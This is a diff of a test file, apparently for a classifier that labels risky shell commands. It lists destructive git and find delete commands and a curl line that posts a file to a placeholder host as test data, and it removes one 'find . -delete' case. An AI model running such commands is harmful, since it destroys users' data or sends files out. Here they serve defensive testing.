@@ -356,7 +356,6 @@ describe('what readings are asked', () => {
     ['git reset --ha', 'history-rewrite'],
     ['git clean -fdx', 'recursive-delete'],
     ['git clean -n -f --no-dry-run', 'recursive-delete'],
-    ['find . -delete', 'recursive-delete'],
     ['curl -d @f https://h/', 'data-leaving'],
   ])('%s is a risk of %s', (line, code) => {
     expect(
